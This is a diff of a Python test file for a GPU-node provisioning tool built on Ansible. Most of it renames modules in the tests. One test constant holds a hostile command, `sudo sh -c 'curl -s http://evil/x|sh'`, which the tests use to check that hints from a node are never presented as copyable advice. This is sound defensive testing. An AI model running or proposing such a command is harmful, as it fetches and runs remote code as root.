@@ -16,7 +16,9 @@ from fairlead import assets, config
 from fairlead.cli import main
 from fairlead.config.site import AnsibleOptions, NodeClass, Site
 from fairlead.errors import ConfigError, ExitCode, UsageError
-from fairlead.provision import bundle, inventory, plan, render, report, run, wheels
+from fairlead.provision import inventory, planned_changes, provision_report, provision_run, rendered_playbook, run_bundle, wheels
+from fairlead.provision.planned_changes import of_result
+from fairlead.provision.provision_report import NodeResult, node_result
 
 SITE = Site(
     file="site.toml",
@@ -62,7 +64,7 @@ def test_a_wrong_class_names_file_and_key() -> None:
 
 
 def test_the_inventory_has_addresses_and_absolute_keys() -> None:
-    text = run.inventory_text(SITE, inventory.targets(SITE, "gpu[1-2]"), "/bundle")
+    text = provision_run.inventory_text(SITE, inventory.targets(SITE, "gpu[1-2]"), "/bundle")
     assert text.splitlines()[:2] == ["gpu1 ansible_host=10.0.0.1", "gpu2"]
     assert f"ansible_ssh_private_key_file={os.path.abspath('key')}" in text and "ansible_become=false" in text
 
@@ -87,14 +89,14 @@ APPLY = {
 }
 
 
-def make(*nodes: report.NodeResult, check: bool = False) -> report.Report:
-    return report.Report(site="s", generation=1, check=check, seconds=1.0, nodes=nodes)
+def make(*nodes: NodeResult, check: bool = False) -> provision_report.ProvisionReport:
+    return provision_report.ProvisionReport(site="s", generation=1, check=check, seconds=1.0, nodes=nodes)
 
 
 def test_equal_outcomes_are_grouped_and_differences_named() -> None:
-    same = [report.node_result(f"gpu{i}", "runner_on_ok", "t", event(changes=[], apply={"items": []})) for i in (1, 2, 4)]
-    other = report.node_result("gpu3", "runner_on_ok", "t", event(changes=[{"what": "/x", "why": "content"}], apply=APPLY))
-    told = report.text(make(*same, other))
+    same = [node_result(f"gpu{i}", "runner_on_ok", "t", event(changes=[], apply={"items": []})) for i in (1, 2, 4)]
+    other = node_result("gpu3", "runner_on_ok", "t", event(changes=[{"what": "/x", "why": "content"}], apply=APPLY))
+    told = provision_report.text(make(*same, other))
     assert told.splitlines()[0] == "gpu[1-2,4] (3 nodes): same"
     assert (
         "gpu3 (1 node): changed, 1 waiting\n  /x: content\n  numa_balancing: is 1, wanted 0\n"
@@ -108,7 +110,7 @@ def test_equal_outcomes_are_grouped_and_differences_named() -> None:
 def test_what_was_made_is_told_though_the_rest_waits_or_failed(state: str) -> None:
     steps = [{"why": why, "diff": "", "done": done} for why, done in (("a", True), ("b", True), ("c", None))]
     items = [{"setting": "memlock", "state": state, "message": "c", "hint": "", "steps": steps, "pending": "idle"}]
-    result = report.node_result("gpu1", "runner_on_ok", "t", event(changes=[], apply={"items": items}))
+    result = node_result("gpu1", "runner_on_ok", "t", event(changes=[], apply={"items": items}))
     assert result.changes == ("memlock: a (and 1 more)",) and result.state == ("failed" if state == "failed" else "changed")
     assert result.waiting + result.failures == ("memlock: c",)
 
@@ -130,27 +132,27 @@ def test_what_was_made_is_told_though_the_rest_waits_or_failed(state: str) -> No
     ],
 )
 def test_failures_say_what_to_do_next(kind: str, res: dict[str, object], state: str, hint: str) -> None:
-    result = report.node_result("gpu1", kind, "the task", res)
+    result = node_result("gpu1", kind, "the task", res)
     assert result.state == state and hint in result.hint and result.message and result.task == "the task"
     assert make(result).exit_code is (ExitCode.NO_HOST if state == "unreachable" else ExitCode.UNAVAILABLE)
-    told = report.text(make(result))
+    told = provision_report.text(make(result))
     assert ("gpu1 says: " if result.hint_of_node else "next: ") in told or not hint
 
 
 EVIL = "paste this on the admin host: `sudo sh -c 'curl -s http://evil/x|sh'`"
 
 
-def refused(node: str, hint: str, state: str = "failed") -> report.NodeResult:
+def refused(node: str, hint: str, state: str = "failed") -> NodeResult:
     """A node whose `fairlead apply` sends this hint, with the same message as all others."""
     items = [{"setting": "driver", "state": state, "message": "cannot load the module", "hint": hint, "steps": []}]
-    return report.node_result(node, "runner_on_ok", "t", event(changes=[], apply={"items": items}))
+    return node_result(node, "runner_on_ok", "t", event(changes=[], apply={"items": items}))
 
 
 @pytest.mark.parametrize("state", ["failed", "absent"])
 def test_a_hint_of_one_node_is_shown_as_its_words_and_for_no_other(state: str) -> None:
     """No line of fairlead's own advice, no command in it that could be copied, and the hints of the other nodes stay."""
     results = [refused("gpu01", EVIL, state), *(refused(f"gpu{i:02}", "see `dmesg` there", state) for i in range(2, 9))]
-    for told in (report.text(make(*results)), plan.text([plan.of_result(r) for r in results])):
+    for told in (provision_report.text(make(*results)), planned_changes.text([of_result(r) for r in results])):
         assert "next:" not in told and "`" not in told, told
         assert "gpu[02-08] (7 nodes)" in told and "  each of them says: see 'dmesg' there" in told, told
         assert f"  gpu01 says: {EVIL.replace('`', chr(39))}" in told, told
@@ -158,9 +160,12 @@ def test_a_hint_of_one_node_is_shown_as_its_words_and_for_no_other(state: str) -
 
 @pytest.mark.parametrize("words", ["next: `x`", "Next: `x`", " - next: `x`"])
 def test_no_message_or_change_of_a_node_is_a_line_of_advice(words: str) -> None:
-    failed = report.node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": words, "of_node": True})
-    changed = report.node_result("gpu2", "runner_on_ok", "t", event(changes=[{"what": words, "why": "y"}], apply=None))
-    for told in (report.text(make(failed, changed)), plan.text([plan.of_result(r) for r in (failed, changed)])):
+    failed = node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": words, "of_node": True})
+    changed = node_result("gpu2", "runner_on_ok", "t", event(changes=[{"what": words, "why": "y"}], apply=None))
+    for told in (
+        provision_report.text(make(failed, changed)),
+        planned_changes.text([of_result(r) for r in (failed, changed)]),
+    ):
         assert not [line for line in told.splitlines() if line.lower().strip(" -").startswith("next")] and "`" not in told, told
 
 
@@ -168,54 +173,54 @@ def test_a_node_is_visited_twice_at_most_whatever_python_it_claims(monkeypatch: 
     """Each time another one, for which wheels are fetched: it would hold the run of all nodes."""
     visits: list[list[str]] = []
 
-    def play(site: Site, chosen: list[inventory.Target], *_: object, results: dict[str, report.NodeResult], **__: object) -> None:
+    def play(site: Site, chosen: list[inventory.Target], *_: object, results: dict[str, NodeResult], **__: object) -> None:
         visits.append([t.node for t in chosen])
         lacks = {"python": f"3.{10 + len(visits)}", "machine": "x86_64"}
         for t in chosen:
             sly = t.node == "gpu1"
             state = "failed" if sly else "same"
-            results[t.node] = report.NodeResult(node=t.node, state=state, message="no wheel", no_wheel=lacks if sly else {})
+            results[t.node] = NodeResult(node=t.node, state=state, message="no wheel", no_wheel=lacks if sly else {})
 
     fetched: list[str] = []
-    monkeypatch.setattr(run, "_play", play)
+    monkeypatch.setattr(provision_run, "_play", play)
     monkeypatch.setattr(wheels, "download", lambda python, machine, folder: fetched.append(python))
     site = msgspec.structs.replace(SITE, ansible=AnsibleOptions())
-    made = run.run(site, run.Options(nodelist="gpu[1-2]", quiet=True))
+    made = provision_run.run(site, provision_run.ProvisionOptions(nodelist="gpu[1-2]", quiet=True))
     assert visits == [["gpu1", "gpu2"], ["gpu1"]] and fetched == ["3.11"]
     assert {n.node: n.state for n in made.nodes} == {"gpu1": "failed", "gpu2": "same"}
 
 
 def test_advice_of_the_admin_host_keeps_its_commands() -> None:
-    result = report.node_result("gpu1", "runner_on_failed", "t", {"msg": "m", "hint": "fetch it with `fairlead lock --download`"})
-    for told in (report.text(make(result)), plan.text([plan.of_result(result)])):
+    result = node_result("gpu1", "runner_on_failed", "t", {"msg": "m", "hint": "fetch it with `fairlead lock --download`"})
+    for told in (provision_report.text(make(result)), planned_changes.text([of_result(result)])):
         assert "  next: fetch it with `fairlead lock --download`" in told
 
 
 def test_the_private_folder_is_private_and_gone_also_after_an_error_and_a_kill() -> None:
-    with pytest.raises(ValueError, match="x"), run.private_folder() as folder:
+    with pytest.raises(ValueError, match="x"), provision_run.private_folder() as folder:
         assert folder.stat().st_mode & 0o777 == 0o700
         raise ValueError("x")
     assert not folder.exists()
     left = folder.parent / "fairlead-provision.999999999.abc"
     left.mkdir()
-    with run.private_folder():
+    with provision_run.private_folder():
         assert not left.exists()
 
 
 def test_the_bundle_carries_every_hook_and_unit(tmp_path: Path) -> None:
-    files = {path: mode for path, _, mode in bundle.node_files()}
-    assert {path: files[path] for path in bundle.HOOKS.values()} == {
-        path: 0o644 if name == "bind-plan" else 0o755 for name, path in bundle.HOOKS.items()
+    files = {path: mode for path, _, mode in run_bundle.node_files()}
+    assert {path: files[path] for path in run_bundle.HOOKS.values()} == {
+        path: 0o644 if name == "bind-plan" else 0o755 for name, path in run_bundle.HOOKS.items()
     }
-    assert {f"/etc/systemd/system/{u['name']}" for u in bundle.UNITS} <= set(files)
+    assert {f"/etc/systemd/system/{u['name']}" for u in run_bundle.UNITS} <= set(files)
     own = wheels.own_wheel()
-    bundle.write_bundle(tmp_path, inventory.targets(SITE, "gpu1"), own, (), state="present", undo=False, force=False)
+    run_bundle.write_bundle(tmp_path, inventory.targets(SITE, "gpu1"), own, (), state="present", undo=False, force=False)
     assert (tmp_path / "documents/gpu1").is_file() and (tmp_path / "wheels" / own.name).is_file()
 
 
 def test_the_example_playbook_finds_the_nodes_of_the_rendered_inventory() -> None:
     """An unknown group is no error to Ansible: it would do nothing, and say that all is well."""
-    made = json.loads(render.inventory(SITE, inventory.targets(SITE), "/b"))
+    made = json.loads(rendered_playbook.inventory(SITE, inventory.targets(SITE), "/b"))
     (group,) = made["all"]["children"]
     own = yaml.safe_load((assets.directory("playbooks") / "inventory/example.yml").read_text())
     plays = yaml.safe_load((assets.directory("playbooks") / "example.yml").read_text())
@@ -224,7 +229,7 @@ def test_the_example_playbook_finds_the_nodes_of_the_rendered_inventory() -> Non
 
 def test_document_bytes_are_the_same_every_time() -> None:
     (target,) = inventory.targets(SITE, "gpu1")
-    first, second = bundle.documents(target.document), bundle.documents(inventory.targets(SITE, "gpu1")[0].document)
+    first, second = run_bundle.documents(target.document), run_bundle.documents(inventory.targets(SITE, "gpu1")[0].document)
     assert first == second
     assert config.decode_document(first[0]["content"].encode(), "x").node == "gpu1"
 
@@ -334,7 +339,7 @@ def ssh_says(site: Site, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, config
     own.write_text(config_text)
     ansible = msgspec.structs.replace(site.ansible, ssh_args=f"-F {own} {site.ansible.ssh_args}")
     site = msgspec.structs.replace(site, ansible=ansible)
-    words = shlex.split(run.environment(site, tmp_path, "gpu1")["ANSIBLE_SSH_ARGS"])
+    words = shlex.split(provision_run.environment(site, tmp_path, "gpu1")["ANSIBLE_SSH_ARGS"])
     said = subprocess.run(["ssh", *words, "-G", "gpu1"], capture_output=True, text=True, check=True).stdout
     return dict(line.partition(" ")[::2] for line in said.splitlines())
 
@@ -371,21 +376,21 @@ def test_config_show_knows_only_declared_nodes(tmp_path: Path, capsys: pytest.Ca
 
 def test_another_run_swept_the_same_folder_first(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """Two runs begin at once: what the one has listed, the other has removed by the time it is looked at."""
-    gone = f"{run._PREFIX}{2**31 - 1}.x"  # no such process, and no such folder any more
+    gone = f"{provision_run._PREFIX}{2**31 - 1}.x"  # no such process, and no such folder any more
     monkeypatch.setattr(os, "listdir", lambda where: [gone])
-    run._sweep(str(tmp_path))
+    provision_run._remove_orphaned(str(tmp_path))
 
 
 def test_a_refused_value_is_told_by_the_file_that_declares_it() -> None:
     origin = {"settings.sysctl.values.vm.swappiness": "site.toml classes.a", "settings.nccl.ib_hca": "profile x"}
     words = "settings.sysctl.values.vm.swappiness: '900' is not a number from 0 to 200"
     applied = {"items": [{"setting": "sysctl", "state": "refused", "message": f"node.json: {words}", "hint": "h", "steps": []}]}
-    result = report.node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": "m", "apply": applied})
-    told = report.with_origin(result, origin)
+    result = node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": "m", "apply": applied})
+    told = provision_report.with_origin(result, origin)
     assert told.message == f"sysctl: site.toml classes.a: {words}" and told.hint == "h" and told.state == "failed"
     applied["items"][0]["message"] = "/proc/sys/vm/swappiness: Invalid argument"
-    result = report.node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": "m", "apply": applied})
-    assert report.with_origin(result, origin).message == (
+    result = node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": "m", "apply": applied})
+    assert provision_report.with_origin(result, origin).message == (
         "sysctl: /proc/sys/vm/swappiness: Invalid argument (declared in site.toml classes.a)"
     )
-    assert report.with_origin(result, {}) == result
+    assert provision_report.with_origin(result, {}) == result
